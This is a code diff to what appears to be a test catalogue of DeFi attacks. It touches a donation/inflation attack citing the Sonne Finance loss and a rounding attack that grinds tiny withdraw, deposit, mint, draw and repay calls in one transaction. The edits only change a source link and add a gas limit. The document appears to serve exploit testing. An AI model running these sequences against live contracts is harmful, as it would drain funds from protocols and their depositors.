@@ -40,7 +40,7 @@ const inflation: Attack = {
     protocol: "Sonne Finance (Optimism)",
     year: 2024,
     lossUsd: 20_000_000,
-    source: "https://rekt.news/sonne-finance-rekt",
+    source: "https://bitcoinsnews.com/sonne-finance-loses-20-million-in-compound-v2-donation-attack-on-optimism-74668",
   },
   tries: "one unit deposited into a pool that holds its seed only, 100,000 dollars donated, the next deposit awaited",
   fresh: true,
@@ -67,6 +67,8 @@ const inflation: Attack = {
 
 /** Times each step is repeated in one transaction. */
 const ROUNDS = 30n;
+/** Just what one transaction of the rollup may use. */
+const GAS = { gasLimit: 16_777_215n };
 
 const rounding: Attack = {
   fault: "C11",
@@ -89,14 +91,20 @@ const rounding: Attack = {
     const open = await w.call(w.manager, "open", w.facility, 0, btc(1), usd(1_000), contract, "0x");
     const enter = await w.call(w.senior, "deposit", usd(1_000) + 1n, contract);
     await w.send(contract, "run", [open, enter]);
-    await w.send(contract, "grind", ROUNDS, [
-      await w.call(w.senior, "withdraw", 1n, contract, contract),
-      await w.call(w.senior, "deposit", 1n, contract),
-      await w.call(w.senior, "mint", 1_000_001n, contract),
-      await w.call(w.senior, "withdraw", 1n, contract, contract),
-      await w.call(w.manager, "draw", id, 1n, contract),
-      await w.call(w.manager, "repay", id, 1n, "0x"),
-    ]);
+    await w.send(
+      contract,
+      "grind",
+      ROUNDS,
+      [
+        await w.call(w.senior, "withdraw", 1n, contract, contract),
+        await w.call(w.senior, "deposit", 1n, contract),
+        await w.call(w.senior, "mint", 1_000_001n, contract),
+        await w.call(w.senior, "withdraw", 1n, contract, contract),
+        await w.call(w.manager, "draw", id, 1n, contract),
+        await w.call(w.manager, "repay", id, 1n, "0x"),
+      ],
+      GAS,
+    );
     const shares = await sharesOf(w, w.senior, contract);
     await w.send(contract, "run", [
       await w.call(w.senior, "redeem", shares, contract, contract),
@@ -112,7 +120,7 @@ const rounding: Attack = {
     await w.send(market.connect(w.lender), "deposit", usd(2_000_000));
     // Less than one share each time, which is none.
     const calls = [await w.call(market, "withdraw", usd(5_000))];
-    await w.send(w.contract, "grind", ROUNDS, calls);
+    await w.send(w.contract, "grind", ROUNDS, calls, GAS);
     return (await w.wealth(PRICE)) - before;
   },
 };
